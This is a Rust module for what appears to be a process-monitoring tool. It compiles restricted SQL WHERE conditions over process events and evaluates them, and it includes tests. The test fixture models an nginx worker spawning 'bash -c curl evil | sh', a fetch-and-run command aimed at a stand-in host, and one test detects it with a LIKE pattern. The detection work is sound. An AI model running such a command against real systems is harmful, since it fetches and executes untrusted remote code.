//! `ConditionType::Custom`: a SQL `WHERE` expression over a process event.
//!
//! Parsed by `sqlparser` (generic dialect), then compiled into a small tree
//! that is type-checked at registration and evaluated with SQL's three-valued
//! logic (a comparison with `NULL` is unknown; only a true result matches).
//!
//! Supported: comparisons (`= <> != < <= > >=`), `AND`/`OR`/`NOT`,
//! `+ - * /` on numbers, `LIKE`/`ILIKE` (and `NOT`) with a literal pattern
//! (`%`, `_`, optional `ESCAPE`), `IN (...)`, `IS [NOT] NULL`,
//! `IS [NOT] TRUE/FALSE`, `BETWEEN`, parentheses. Columns: see [`COLUMNS`].
//! Anything else (functions, subqueries, unknown columns, a string compared
//! with a number) is refused at registration.

use std::borrow::Cow;

use sqlparser::ast::{self, BinaryOperator, Expr, UnaryOperator};
use sqlparser::dialect::GenericDialect;
use sqlparser::parser::Parser;
use sqlparser::tokenizer::Token;

use crate::event::{HashAlgorithm, ProcessEvent, ProcessEventType};

/// The longest expression accepted, in bytes.
pub const MAX_SQL_LEN: usize = 4096;
const MAX_DEPTH: usize = 64;

/// The columns a custom condition may name: the process columns of the one
/// SQL vocabulary ([`crate::vocabulary::PROCESS`]) that a process event
/// carries, with the same names and types as in detection rules and the
/// store. `parent_name` comes from earlier events of the parent.
pub const COLUMNS: &[&str] = &[
    "pid",
    "ppid",
    "name",
    "parent_name",
    "exe",
    "exe_name",
    "cmdline",
    "cpu_percent",
    "rss_bytes",
    "exe_hash",
    "hash_algorithm",
    "uid",
    "euid",
    "gid",
    "accessible",
    "file_exists",
    "exe_deleted",
    "exe_replaced",
    "event_type",
    "exit_code",
    "container_id",
    "cgroup",
    "process_key",
];

/// Why a custom condition was refused.
#[derive(Debug, Clone, PartialEq, Eq, thiserror::Error)]
#[non_exhaustive]
pub enum SqlError {
    /// The text does not parse as an expression.
    #[error("does not parse: {message}")]
    Parse {
        /// The parser's message.
        message: String,
    },
    /// The expression names a column a process event does not have.
    #[error("unknown column {column:?}")]
    UnknownColumn {
        /// The column.
        column: String,
    },
    /// The expression uses SQL this evaluator does not support.
    #[error("unsupported sql: {what}")]
    Unsupported {
        /// What.
        what: String,
    },
    /// Operands of incompatible types.
    #[error("type mismatch: {what}")]
    TypeMismatch {
        /// Where.
        what: String,
    },
    /// Longer than [`MAX_SQL_LEN`] or nested too deeply.
    #[error("expression too large")]
    TooLarge,
}

#[derive(Debug, Clone, Copy, PartialEq, Eq)]
enum Column {
    Pid,
    Ppid,
    Name,
    ParentName,
    Exe,
    ExeName,
    Cmdline,
    CpuPercent,
    RssBytes,
    ExeHash,
    HashAlgorithm,
    Uid,
    Euid,
    Gid,
    Accessible,
    FileExists,
    ExeDeleted,
    ExeReplaced,
    EventType,
    ExitCode,
    ContainerId,
    Cgroup,
    ProcessKey,
}

#[derive(Debug, Clone, Copy, PartialEq, Eq)]
enum Ty {
    Num,
    Str,
    Bool,
    Null,
}

impl Column {
    /// In the order of [`COLUMNS`].
    const ALL: [Self; 23] = [
        Self::Pid,
        Self::Ppid,
        Self::Name,
        Self::ParentName,
        Self::Exe,
        Self::ExeName,
        Self::Cmdline,
        Self::CpuPercent,
        Self::RssBytes,
        Self::ExeHash,
        Self::HashAlgorithm,
        Self::Uid,
        Self::Euid,
        Self::Gid,
        Self::Accessible,
        Self::FileExists,
        Self::ExeDeleted,
        Self::ExeReplaced,
        Self::EventType,
        Self::ExitCode,
        Self::ContainerId,
        Self::Cgroup,
        Self::ProcessKey,
    ];

    fn parse(name: &str) -> Option<Self> {
        COLUMNS
            .iter()
            .position(|c| c.eq_ignore_ascii_case(name))
            .and_then(|i| Self::ALL.get(i).copied())
    }

    /// The type, from the vocabulary.
    fn ty(self) -> Ty {
        use crate::vocabulary::{process_column, SqlType};
        let name = COLUMNS[self as usize];
        match process_column(name).map(|c| c.ty) {
            Some(SqlType::Integer | SqlType::Real) => Ty::Num,
            Some(SqlType::Boolean) => Ty::Bool,
            Some(SqlType::Text | SqlType::JsonArray) | None => Ty::Str,
        }
    }
}

/// A value during evaluation.
#[derive(Debug, Clone, PartialEq)]
enum Value<'a> {
    Null,
    Int(i64),
    Float(f64),
    Str(Cow<'a, str>),
    Bool(bool),
}

impl Value<'_> {
    fn as_f64(&self) -> Option<f64> {
        match self {
            #[allow(clippy::cast_precision_loss)]
            Self::Int(i) => Some(*i as f64),
            Self::Float(f) => Some(*f),
            _ => None,
        }
    }
}

#[derive(Debug, Clone, Copy, PartialEq, Eq)]
enum Cmp {
    Eq,
    Ne,
    Lt,
    Le,
    Gt,
    Ge,
}

#[derive(Debug, Clone, Copy, PartialEq, Eq)]
enum Arith {
    Add,
    Sub,
    Mul,
    Div,
}

#[derive(Debug, Clone, PartialEq)]
enum Node {
    Col(Column),
    Lit(Value<'static>),
    Not(Box<Node>),
    Neg(Box<Node>),
    And(Box<Node>, Box<Node>),
    Or(Box<Node>, Box<Node>),
    Cmp(Cmp, Box<Node>, Box<Node>),
    Arith(Arith, Box<Node>, Box<Node>),
    IsNull(Box<Node>, bool),
    IsBool(Box<Node>, bool, bool),
    Like {
        expr: Box<Node>,
        pattern: Vec<LikeToken>,
        negated: bool,
        fold_case: bool,
    },
    In(Box<Node>, Vec<Node>, bool),
    Between(Box<Node>, Box<Node>, Box<Node>, bool),
}

#[derive(Debug, Clone, PartialEq, Eq)]
enum LikeToken {
    Any,
    One,
    Char(char),
}

/// What evaluation looks at: the event and what the trigger manager knows
/// about its parent.
#[derive(Debug, Clone, Copy)]
pub(crate) struct Row<'a> {
    pub(crate) event: &'a ProcessEvent,
    pub(crate) parent_name: Option<&'a str>,
}

/// A compiled custom condition.
#[derive(Debug, Clone, PartialEq)]
pub struct SqlCondition {
    root: Node,
}

impl SqlCondition {
    /// Parses, checks and compiles `sql` (a `WHERE` expression, with or
    /// without the `WHERE` keyword).
    ///
    /// # Errors
    /// [`SqlError`]: does not parse, unknown column, unsupported SQL, type
    /// mismatch, too large.
    pub fn compile(sql: &str) -> Result<Self, SqlError> {
        if sql.len() > MAX_SQL_LEN {
            return Err(SqlError::TooLarge);
        }
        let trimmed = sql.trim_start();
        let body = match trimmed.get(..6) {
            Some(w) if w.eq_ignore_ascii_case("where ") => &trimmed[6..],
            _ => trimmed,
        };
        let parse_err = |e: sqlparser::parser::ParserError| SqlError::Parse {
            message: e.to_string(),
        };
        let mut parser = Parser::new(&GenericDialect {})
            .with_recursion_limit(MAX_DEPTH)
            .try_with_sql(body)
            .map_err(parse_err)?;
        let expr = parser.parse_expr().map_err(parse_err)?;
        let next = parser.peek_token();
        if next.token != Token::EOF {
            return Err(SqlError::Parse {
                message: format!("unexpected {} after the expression", next.token),
            });
        }
        let root = compile(&expr, 0)?;
        match type_of(&root)? {
            Ty::Bool | Ty::Null => Ok(Self { root }),
            _ => Err(SqlError::TypeMismatch {
                what: "the expression is not a condition (not boolean)".into(),
            }),
        }
    }

    /// Whether the condition is true for `event` (unknown counts as false).
    pub fn matches(&self, event: &ProcessEvent) -> bool {
        self.matches_row(Row {
            event,
            parent_name: None,
        })
    }

    pub(crate) fn matches_row(&self, row: Row<'_>) -> bool {
        eval(&self.root, row) == Value::Bool(true)
    }
}

fn unsupported(what: impl Into<String>) -> SqlError {
    SqlError::Unsupported { what: what.into() }
}

#[allow(clippy::too_many_lines)] // one arm per SQL construct, read top to bottom
fn compile(expr: &Expr, depth: usize) -> Result<Node, SqlError> {
    if depth > MAX_DEPTH {
        return Err(SqlError::TooLarge);
    }
    let sub = |e: &Expr| compile(e, depth + 1).map(Box::new);
    Ok(match expr {
        Expr::Identifier(ident) => {
            Node::Col(
                Column::parse(&ident.value).ok_or_else(|| SqlError::UnknownColumn {
                    column: ident.value.clone(),
                })?,
            )
        }
        Expr::Value(v) => Node::Lit(literal(&v.value)?),
        Expr::Nested(e) => return compile(e, depth + 1),
        Expr::UnaryOp { op, expr } => match op {
            UnaryOperator::Not => Node::Not(sub(expr)?),
            UnaryOperator::Minus => Node::Neg(sub(expr)?),
            UnaryOperator::Plus => return compile(expr, depth + 1),
            other => return Err(unsupported(format!("unary operator {other}"))),
        },
        Expr::BinaryOp { left, op, right } => {
            let (l, r) = (sub(left)?, sub(right)?);
            match op {
                BinaryOperator::And => Node::And(l, r),
                BinaryOperator::Or => Node::Or(l, r),
                BinaryOperator::Eq => Node::Cmp(Cmp::Eq, l, r),
                BinaryOperator::NotEq => Node::Cmp(Cmp::Ne, l, r),
                BinaryOperator::Lt => Node::Cmp(Cmp::Lt, l, r),
                BinaryOperator::LtEq => Node::Cmp(Cmp::Le, l, r),
                BinaryOperator::Gt => Node::Cmp(Cmp::Gt, l, r),
                BinaryOperator::GtEq => Node::Cmp(Cmp::Ge, l, r),
                BinaryOperator::Plus => Node::Arith(Arith::Add, l, r),
                BinaryOperator::Minus => Node::Arith(Arith::Sub, l, r),
                BinaryOperator::Multiply => Node::Arith(Arith::Mul, l, r),
                BinaryOperator::Divide => Node::Arith(Arith::Div, l, r),
                other => return Err(unsupported(format!("operator {other}"))),
            }
        }
        Expr::IsNull(e) => Node::IsNull(sub(e)?, false),
        Expr::IsNotNull(e) => Node::IsNull(sub(e)?, true),
        Expr::IsTrue(e) => Node::IsBool(sub(e)?, true, false),
        Expr::IsNotTrue(e) => Node::IsBool(sub(e)?, true, true),
        Expr::IsFalse(e) => Node::IsBool(sub(e)?, false, false),
        Expr::IsNotFalse(e) => Node::IsBool(sub(e)?, false, true),
        Expr::Like {
            negated,
            any,
            expr: e,
            pattern,
            escape_char,
        }
        | Expr::ILike {
            negated,
            any,
            expr: e,
            pattern,
            escape_char,
        } => like(
            e,
            pattern,
            escape_char.as_deref(),
            *negated,
            *any,
            matches!(expr, Expr::ILike { .. }),
            depth,
        )?,
        Expr::In {
            expr,
            target,
            negated,
            ..
        } => match target {
            ast::InTarget::List(list) => {
                if list.is_empty() {
                    return Err(unsupported("an empty IN list"));
                }
                Node::In(
                    sub(expr)?,
                    list.iter()
                        .map(|e| compile(e, depth + 1))
                        .collect::<Result<_, _>>()?,
                    *negated,
                )
            }
            _ => return Err(unsupported("IN with anything but a list of values")),
        },
        Expr::Between {
            expr,
            negated,
            low,
            high,
        } => Node::Between(sub(expr)?, sub(low)?, sub(high)?, *negated),
        other => {
            let text = other.to_string();
            return Err(unsupported(text.chars().take(80).collect::<String>()));
        }
    })
}

#[allow(clippy::fn_params_excessive_bools)]
fn like(
    expr: &Expr,
    pattern: &Expr,
    escape: Option<&Expr>,
    negated: bool,
    any: bool,
    fold_case: bool,
    depth: usize,
) -> Result<Node, SqlError> {
    if any {
        return Err(unsupported("LIKE ANY"));
    }
    let Expr::Value(p) = pattern else {
        return Err(unsupported("a LIKE pattern that is not a string literal"));
    };
    let Value::Str(p) = literal(&p.value)? else {
        return Err(unsupported("a LIKE pattern that is not a string literal"));
    };
    let escape = match escape {
        None => None,
        Some(Expr::Value(v)) => match literal(&v.value)? {
            Value::Str(e) if e.chars().count() == 1 => e.chars().next(),
            _ => return Err(unsupported("an ESCAPE that is not one character")),
        },
        Some(_) => return Err(unsupported("an ESCAPE that is not one character")),
    };
    let mut tokens = Vec::new();
    let mut chars = p.chars();
    while let Some(c) = chars.next() {
        tokens.push(match c {
            c if Some(c) == escape => match chars.next() {
                Some(n) => LikeToken::Char(if fold_case { n.to_ascii_lowercase() } else { n }),
                None => return Err(unsupported("a LIKE pattern ending in its escape")),
            },
            '%' => {
                if tokens.last() == Some(&LikeToken::Any) {
                    continue;
                }
                LikeToken::Any
            }
            '_' => LikeToken::One,
            c => LikeToken::Char(if fold_case { c.to_ascii_lowercase() } else { c }),
        });
    }
    Ok(Node::Like {
        expr: Box::new(compile(expr, depth + 1)?),
        pattern: tokens,
        negated,
        fold_case,
    })
}

fn literal(v: &ast::Value) -> Result<Value<'static>, SqlError> {
    Ok(match v {
        ast::Value::Number(n, _) => match n.parse::<i64>() {
            Ok(i) => Value::Int(i),
            Err(_) => match n.parse::<f64>() {
                Ok(f) if f.is_finite() => Value::Float(f),
                _ => return Err(unsupported(format!("number {n}"))),
            },
        },
        ast::Value::SingleQuotedString(s) => Value::Str(Cow::Owned(s.clone())),
        ast::Value::Boolean(b) => Value::Bool(*b),
        ast::Value::Null => Value::Null,
        other => return Err(unsupported(format!("literal {other}"))),
    })
}

fn mismatch(what: &str) -> SqlError {
    SqlError::TypeMismatch { what: what.into() }
}

/// The static type of a node; refuses ill-typed trees.
fn type_of(node: &Node) -> Result<Ty, SqlError> {
    let compatible = |a: Ty, b: Ty| a == b || a == Ty::Null || b == Ty::Null;
    let want = |n: &Node, t: Ty, what: &str| {
        let have = type_of(n)?;
        if compatible(have, t) {
            Ok(())
        } else {
            Err(mismatch(what))
        }
    };
    Ok(match node {
        Node::Col(c) => c.ty(),
        Node::Lit(Value::Null) => Ty::Null,
        Node::Lit(Value::Int(_) | Value::Float(_)) => Ty::Num,
        Node::Lit(Value::Str(_)) => Ty::Str,
        Node::Lit(Value::Bool(_)) => Ty::Bool,
        Node::Not(e) => {
            want(e, Ty::Bool, "NOT needs a boolean")?;
            Ty::Bool
        }
        Node::Neg(e) => {
            want(e, Ty::Num, "unary minus needs a number")?;
            Ty::Num
        }
        Node::And(l, r) | Node::Or(l, r) => {
            want(l, Ty::Bool, "AND/OR need booleans")?;
            want(r, Ty::Bool, "AND/OR need booleans")?;
            Ty::Bool
        }
        Node::Arith(_, l, r) => {
            want(l, Ty::Num, "arithmetic needs numbers")?;
            want(r, Ty::Num, "arithmetic needs numbers")?;
            Ty::Num
        }
        Node::Cmp(_, l, r) => {
            let (a, b) = (type_of(l)?, type_of(r)?);
            if !compatible(a, b) {
                return Err(mismatch("comparison of different types"));
            }
            Ty::Bool
        }
        Node::IsNull(e, _) => {
            type_of(e)?;
            Ty::Bool
        }
        Node::IsBool(e, _, _) => {
            want(e, Ty::Bool, "IS TRUE/FALSE needs a boolean")?;
            Ty::Bool
        }
        Node::Like { expr, .. } => {
            want(expr, Ty::Str, "LIKE needs text")?;
            Ty::Bool
        }
        Node::In(e, list, _) => {
            let t = type_of(e)?;
            for item in list {
                if !compatible(t, type_of(item)?) {
                    return Err(mismatch("IN list of another type"));
                }
            }
            Ty::Bool
        }
        Node::Between(e, lo, hi, _) => {
            let t = type_of(e)?;
            if !compatible(t, type_of(lo)?) || !compatible(t, type_of(hi)?) {
                return Err(mismatch("BETWEEN bounds of another type"));
            }
            Ty::Bool
        }
    })
}

fn column<'a>(c: Column, row: Row<'a>) -> Value<'a> {
    let e = row.event;
    let opt_str = |s: Option<&'a str>| s.map_or(Value::Null, |s| Value::Str(Cow::Borrowed(s)));
    let opt_int = |n: Option<u32>| n.map_or(Value::Null, |n| Value::Int(i64::from(n)));
    match c {
        Column::Pid => Value::Int(i64::from(e.pid)),
        Column::Ppid => opt_int(e.ppid),
        Column::Name => Value::Str(Cow::Borrowed(&e.name)),
        Column::ParentName => opt_str(row.parent_name),
        Column::Exe => opt_str(e.executable_path.as_deref()),
        Column::ExeName => opt_str(
            e.executable_path
                .as_deref()
                .and_then(|p| p.rsplit_once('/'))
                .map(|(_, n)| n),
        ),
        Column::Cmdline => match e.command_line.as_slice() {
            [] => Value::Str(Cow::Borrowed("")),
            [one] => Value::Str(Cow::Borrowed(one)),
            many => Value::Str(Cow::Owned(many.join(" "))),
        },
        Column::CpuPercent => e.cpu_usage.map_or(Value::Null, Value::Float),
        Column::RssBytes => e.memory_usage.map_or(Value::Null, |m| {
            Value::Int(i64::try_from(m).unwrap_or(i64::MAX))
        }),
        Column::ExeHash => opt_str(e.executable_hash.as_deref()),
        Column::HashAlgorithm => opt_str(e.hash_algorithm.map(HashAlgorithm::as_str)),
        Column::Uid => opt_int(e.user_id),
        Column::Euid => opt_int(e.euid),
        Column::Gid => opt_int(e.gid),
        Column::Accessible => Value::Bool(e.accessible),
        Column::FileExists => Value::Bool(e.file_exists),
        Column::ExeDeleted => Value::Bool(
            (!e.file_exists && e.executable_path.is_some())
                || e.event_type == ProcessEventType::ExecutableDeleted,
        ),
        Column::ExeReplaced => Value::Bool(e.exe_replaced),
        Column::EventType => Value::Str(Cow::Borrowed(e.event_type.as_str())),
        Column::ExitCode => e
            .exit_code
            .map_or(Value::Null, |c| Value::Int(i64::from(c))),
        Column::ContainerId => opt_str(e.context().container_id.as_deref()),
        Column::Cgroup => opt_str(e.context().cgroup.as_deref()),
        Column::ProcessKey => e
            .process_key
            .map_or(Value::Null, |k| Value::Str(Cow::Owned(k.to_string()))),
    }
}

fn compare(a: &Value<'_>, b: &Value<'_>) -> Option<std::cmp::Ordering> {
    match (a, b) {
        (Value::Int(x), Value::Int(y)) => Some(x.cmp(y)),
        (Value::Str(x), Value::Str(y)) => Some(x.as_ref().cmp(y.as_ref())),
        (Value::Bool(x), Value::Bool(y)) => Some(x.cmp(y)),
        _ => a.as_f64()?.partial_cmp(&b.as_f64()?),
    }
}

fn truth(v: &Value<'_>) -> Option<bool> {
    match v {
        Value::Bool(b) => Some(*b),
        _ => None,
    }
}

fn from_truth(b: Option<bool>) -> Value<'static> {
    b.map_or(Value::Null, Value::Bool)
}

fn like_match(text: &str, pattern: &[LikeToken], fold_case: bool) -> bool {
    // Iterative wildcard matching with one backtrack point (linear-ish, no
    // recursion, so a hostile pattern cannot blow the stack).
    let text: Vec<char> = text
        .chars()
        .map(|c| if fold_case { c.to_ascii_lowercase() } else { c })
        .collect();
    let (mut t, mut p) = (0usize, 0usize);
    let mut star: Option<(usize, usize)> = None;
    while t < text.len() {
        match pattern.get(p) {
            Some(LikeToken::Any) => {
                star = Some((p, t));
                p += 1;
            }
            Some(LikeToken::One) => {
                t += 1;
                p += 1;
            }
            Some(LikeToken::Char(c)) if text.get(t) == Some(c) => {
                t += 1;
                p += 1;
            }
            _ => match star {
                Some((sp, st)) => {
                    p = sp + 1;
                    t = st + 1;
                    star = Some((sp, st + 1));
                }
                None => return false,
            },
        }
    }
    pattern
        .get(p..)
        .unwrap_or_default()
        .iter()
        .all(|x| *x == LikeToken::Any)
}

/// SQL's three-valued AND (`dominant` false) and OR (`dominant` true): a
/// side with the dominant value decides (the right side is not evaluated
/// when the left one does); otherwise the result is known only when both
/// sides are.
fn junction<'a>(l: &'a Node, r: &'a Node, row: Row<'a>, dominant: bool) -> Value<'a> {
    let a = truth(&eval(l, row));
    if a == Some(dominant) {
        return Value::Bool(dominant);
    }
    match (a, truth(&eval(r, row))) {
        (_, Some(b)) if b == dominant => Value::Bool(dominant),
        (Some(_), Some(_)) => Value::Bool(!dominant),
        _ => Value::Null,
    }
}

#[allow(clippy::many_single_char_names)] // one arm per node kind
fn eval<'a>(node: &'a Node, row: Row<'a>) -> Value<'a> {
    match node {
        Node::Col(c) => column(*c, row),
        Node::Lit(v) => match v {
            Value::Str(s) => Value::Str(Cow::Borrowed(s.as_ref())),
            other => other.clone(),
        },
        Node::Not(e) => from_truth(truth(&eval(e, row)).map(|b| !b)),
        Node::Neg(e) => match eval(e, row) {
            Value::Int(i) => i.checked_neg().map_or(Value::Null, Value::Int),
            Value::Float(f) => Value::Float(-f),
            _ => Value::Null,
        },
        Node::And(l, r) => junction(l, r, row, false),
        Node::Or(l, r) => junction(l, r, row, true),
        Node::Cmp(op, l, r) => {
            let ord = compare(&eval(l, row), &eval(r, row));
            from_truth(ord.map(|o| match op {
                Cmp::Eq => o.is_eq(),
                Cmp::Ne => o.is_ne(),
                Cmp::Lt => o.is_lt(),
                Cmp::Le => o.is_le(),
                Cmp::Gt => o.is_gt(),
                Cmp::Ge => o.is_ge(),
            }))
        }
        Node::Arith(op, l, r) => {
            let (a, b) = (eval(l, row), eval(r, row));
            if let (Value::Int(x), Value::Int(y)) = (&a, &b) {
                let v = match op {
                    Arith::Add => x.checked_add(*y),
                    Arith::Sub => x.checked_sub(*y),
                    Arith::Mul => x.checked_mul(*y),
                    Arith::Div => x.checked_div(*y),
                };
                return v.map_or(Value::Null, Value::Int);
            }
            match (a.as_f64(), b.as_f64()) {
                (Some(x), Some(y)) => {
                    let v = match op {
                        Arith::Add => x + y,
                        Arith::Sub => x - y,
                        Arith::Mul => x * y,
                        Arith::Div => x / y,
                    };
                    if v.is_finite() {
                        Value::Float(v)
                    } else {
                        Value::Null
                    }
                }
                _ => Value::Null,
            }
        }
        Node::IsNull(e, negated) => Value::Bool((eval(e, row) == Value::Null) != *negated),
        Node::IsBool(e, want, negated) => {
            Value::Bool((truth(&eval(e, row)) == Some(*want)) != *negated)
        }
        Node::Like {
            expr,
            pattern,
            negated,
            fold_case,
        } => match eval(expr, row) {
            Value::Str(s) => Value::Bool(like_match(&s, pattern, *fold_case) != *negated),
            _ => Value::Null,
        },
        Node::In(e, list, negated) => {
            let v = eval(e, row);
            if v == Value::Null {
                return Value::Null;
            }
            let mut unknown = false;
            for item in list {
                match compare(&v, &eval(item, row)) {
                    Some(o) if o.is_eq() => return Value::Bool(!*negated),
                    Some(_) => {}
                    None => unknown = true,
                }
            }
            if unknown {
                Value::Null
            } else {
                Value::Bool(*negated)
            }
        }
        Node::Between(e, lo, hi, negated) => {
            let v = eval(e, row);
            match (compare(&v, &eval(lo, row)), compare(&v, &eval(hi, row))) {
                (Some(a), Some(b)) => Value::Bool((a.is_ge() && b.is_le()) != *negated),
                _ => Value::Null,
            }
        }
    }
}

#[cfg(test)]
mod tests {
    #![allow(clippy::unwrap_used)]

    use super::*;

    #[test]
    fn every_column_is_in_the_one_vocabulary() {
        assert_eq!(COLUMNS.len(), Column::ALL.len());
        for (i, name) in COLUMNS.iter().enumerate() {
            let col = Column::parse(name).unwrap();
            assert_eq!(col as usize, i, "{name} is out of order");
            let v = crate::vocabulary::process_column(name)
                .unwrap_or_else(|| panic!("{name} is not in the vocabulary"));
            let want = match v.ty {
                crate::vocabulary::SqlType::Integer | crate::vocabulary::SqlType::Real => Ty::Num,
                crate::vocabulary::SqlType::Boolean => Ty::Bool,
                _ => Ty::Str,
            };
            assert_eq!(col.ty(), want, "{name}");
        }
        assert_eq!(Column::parse("executable_path"), None, "one dialect only");
    }
    use crate::event::ProcessEventType;

    fn nginx_shell() -> ProcessEvent {
        ProcessEvent {
            event_type: ProcessEventType::Exec,
            ppid: Some(100),
            executable_path: Some("/usr/bin/bash".into()),
            command_line: vec!["bash".into(), "-c".into(), "curl evil | sh".into()],
            cpu_usage: Some(12.5),
            memory_usage: Some(10 << 20),
            user_id: Some(33),
            ..ProcessEvent::new(4242, "bash")
        }
    }

    fn check(sql: &str) -> bool {
        SqlCondition::compile(sql).unwrap().matches(&nginx_shell())
    }

    #[test]
    fn comparisons_logic_and_arithmetic() {
        assert!(check("name = 'bash'"));
        assert!(!check("name = 'sh'"));
        assert!(check("WHERE pid = 4242 AND uid = 33"));
        assert!(check("pid <> 1 AND NOT (uid = 0)"));
        assert!(check("cpu_percent > 10 OR rss_bytes > 1"));
        assert!(!check("cpu_percent > 50 OR rss_bytes > 100 * 1024 * 1024"));
        assert!(check("rss_bytes >= 10 * 1024 * 1024"));
        assert!(check(
            "event_type = 'exec' AND file_exists AND accessible = true"
        ));
        assert!(check("-pid < 0"));
    }

    #[test]
    fn like_in_null_and_between() {
        assert!(check("cmdline LIKE '%curl%|%sh'"));
        assert!(!check("cmdline NOT LIKE '%curl%'"));
        assert!(check("exe LIKE '/usr/bin/_ash'"));
        assert!(check("name ILIKE 'BA%'"));
        assert!(!check("name LIKE 'BA%'"));
        assert!(check("name LIKE 'a\\%' ESCAPE '\\' OR name LIKE 'bash'"));
        assert!(check("name IN ('sh', 'bash', 'dash')"));
        assert!(!check("name NOT IN ('sh', 'bash')"));
        assert!(check("exe_hash IS NULL AND ppid IS NOT NULL"));
        assert!(check("exit_code IS NULL"));
        assert!(check("uid BETWEEN 1 AND 999"));
        assert!(!check("uid NOT BETWEEN 1 AND 999"));
    }

    #[test]
    fn null_is_unknown_never_a_match() {
        // exit_code is NULL: neither the comparison nor its negation matches.
        assert!(!check("exit_code = 0"));
        assert!(!check("NOT (exit_code = 0)"));
        assert!(check("exit_code = 0 OR pid = 4242"));
        assert!(!check("exit_code IN (1, 2)"));
        let mut p = nginx_shell();
        p.executable_hash = Some("ab".repeat(32));
        p.hash_algorithm = Some(HashAlgorithm::Sha256);
        let c = SqlCondition::compile("hash_algorithm = 'sha256'").unwrap();
        assert!(c.matches(&p));
        assert!(!c.matches(&nginx_shell()));
    }

    #[test]
    fn bad_sql_is_refused_with_a_reason() {
        let err = |s: &str| SqlCondition::compile(s).unwrap_err();
        // The variant each is refused with, by name.
        for (sql, variant) in [
            ("name = ", "Parse"),
            ("name = 'a' 'b'", "Parse"),
            ("nosuch = 1", "UnknownColumn"),
            ("lower(name) = 'a'", "Unsupported"),
            ("pid IN (SELECT 1)", "Unsupported"),
            ("name > 5", "TypeMismatch"),
            ("pid + 1", "TypeMismatch"),
            ("name LIKE name", "Unsupported"),
        ] {
            let e = err(sql);
            assert!(format!("{e:?}").starts_with(variant), "{sql}: {e:?}");
        }
        assert!(matches!(
            err(&"(".repeat(500)),
            SqlError::Parse { .. } | SqlError::TooLarge
        ));
        assert!(matches!(
            err(&"x".repeat(MAX_SQL_LEN + 1)),
            SqlError::TooLarge
        ));
    }

    proptest::proptest! {
        #[test]
        fn compile_never_panics_and_evaluation_is_total(sql in "\\PC{0,80}") {
            if let Ok(c) = SqlCondition::compile(&sql) {
                let _ = c.matches(&nginx_shell());
            }
        }

        #[test]
        fn generated_comparisons_agree_with_rust(pid in 1u32..10_000, k in 0u32..10_000) {
            let mut e = nginx_shell();
            e.pid = pid;
            let c = SqlCondition::compile(&format!("pid > {k} AND NOT pid BETWEEN {k} AND {k}")).unwrap();
            proptest::prop_assert_eq!(c.matches(&e), pid > k);
        }
    }
}
